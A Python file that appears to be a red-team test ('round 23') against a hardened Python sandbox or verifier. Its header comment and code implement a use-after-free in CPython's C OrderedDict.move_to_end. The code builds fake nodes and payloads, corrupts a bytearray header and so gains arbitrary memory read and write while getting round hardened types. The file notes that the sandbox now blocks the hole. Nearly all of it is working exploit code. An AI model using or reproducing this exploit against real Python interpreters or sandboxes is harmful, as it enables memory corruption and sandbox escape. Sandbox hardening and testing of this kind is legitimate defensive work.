# Red team round 23: C OrderedDict.move_to_end (both images; CPython gh-142637 family, open upstream). The key
# lookup calls a key's __eq__, which clears the dict: the keys block is freed (a bytearray buffer of ours takes
# it at once, LIFO) and od_fast_nodes becomes NULL. _odict_get_index_raw then returns the freed block's
# dk_nentries (ours: i) as the node's index, and od_fast_nodes[i] reads *(8*i): a fake node in a bytes object
# of ours. _odict_remove_node unlinks it: *(node->next + 24) = node->prev, i.e. 8 bytes into an empty
# bytearray's header at +17, so its size becomes (an address) << 8 (about 2**54) with its data pointer NULL:
# a reader (and writer) of any address. The dict is then given no nodes again through it. No hardened type is
# touched (OrderedDict, dict, bytes, bytearray's own construction, Python classes).
# Closed: the zygote points every module's OrderedDict at the standard library's Python class and
# `_r2e_kernel.refuse_instances` refuses making a C one (verifier_kernel._python_ordered_dict).
import collections

# The C type, however collections names it: a subclass of dict whose move_to_end is not Python code.
OrderedDict = next((c for c in dict.__subclasses__() if c.__name__ == "OrderedDict"
                    and not hasattr(vars(c).get("move_to_end"), "__code__")), collections.OrderedDict)

_KEEP = []


def _u64(v):
    return (v & (2**64 - 1)).to_bytes(8, "little")


class _Orig:
    __slots__ = ()

    def __hash__(self):
        return 1


class _Trig:
    __slots__ = ("od", "payload")

    def __hash__(self):
        return 1

    def __eq__(self, other):
        self.od.clear()  # frees the 160-byte keys block; od_fast_nodes = NULL
        for _ in range(4):
            _KEEP.append(bytearray(self.payload))  # 160-byte buffers: the first takes the freed block
        return False


def reader():
    mem = bytearray()
    _KEEP.append(mem)
    scratch = bytes(64)  # node->prev->next is written here
    _KEEP.append(scratch)
    prev = id(scratch) + 32 - 16
    node = bytes(16) + _u64(id(None)) + _u64(0) + _u64(id(mem) - 7) + _u64(prev) + bytes(16)
    slot = _u64(id(node) + 48) + bytes(8)  # holds the fake node's address
    _KEEP.extend((node, slot))
    payload = (bytes(24) + _u64((id(slot) + 32) // 8)).ljust(159, b"\0")  # dk_nentries at +24
    od, orig, trig = OrderedDict(), _Orig(), _Trig()
    od[orig] = 1
    trig.od, trig.payload = od, payload
    _KEEP.extend((od, orig, trig))
    od.move_to_end(trig)
    mem[id(od) + 48:id(od) + 64] = bytes(16)  # od_first, od_last: no nodes (the fake one is not freed)
    return mem


def test_structure():
    mem = reader()
    assert_structure(mem, lambda: mem.__setitem__(slice(id(mem) + 16, id(mem) + 32), bytes(16)))  # empty again
